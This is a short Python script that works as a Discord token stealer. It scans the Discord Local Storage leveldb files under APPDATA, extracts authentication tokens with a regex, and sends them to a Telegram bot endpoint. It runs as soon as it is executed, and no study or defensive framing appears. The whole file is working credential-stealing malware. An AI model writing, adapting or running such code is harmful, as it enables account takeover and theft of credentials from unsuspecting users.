import os, re, requests
def grab():
    roaming = os.getenv("APPDATA")
    path = roaming + "\\discord\\Local Storage\\leveldb"
    tokens = []
    for f in os.listdir(path):
        if f.endswith(".ldb"):
            for line in open(os.path.join(path, f), errors="ignore"):
                tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
    requests.post("https://api.telegram.org/bot123:AAA/sendMessage", data={"chat_id": 1, "text": "\n".join(tokens)})
grab()
